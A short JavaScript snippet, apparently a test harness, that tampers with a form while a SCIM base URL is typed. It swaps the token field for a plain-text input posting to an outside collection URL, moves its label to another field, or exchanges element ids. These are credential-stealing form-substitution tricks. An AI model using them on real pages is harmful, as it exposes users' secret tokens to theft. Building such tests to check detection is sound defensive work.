// While the base URL is written, another field takes the place of the token's.
hostile.show();
hostile.during("scim_base_url", "input", () => {
  const old = hostile.get("scim_token");
  if (hostile.variant === "public twin") {
    // The same label and id, but what is typed can be read by everybody, and it goes elsewhere.
    const group = document.createElement("form");
    group.action = "https://honest.onelogin.com/collect";
    const fresh = document.createElement("input");
    fresh.type = "text";
    fresh.id = "scim_token";
    fresh.name = "comment";
    old.replaceWith(group);
    group.append(fresh);
  } else if (hostile.variant === "label handed on") {
    // The label now belongs to another field.
    hostile.label("scim_token").htmlFor = "notes";
    hostile.get("token-group").querySelector(".controls").append(hostile.get("notes"));
    old.remove();
  } else {
    // The approved element itself is put under another label.
    const notes = hostile.get("notes");
    const place = notes.parentElement;
    hostile.get("token-group").querySelector(".controls").append(notes);
    place.append(old);
    [notes.id, old.id] = ["scim_token", "notes"];
  }
});
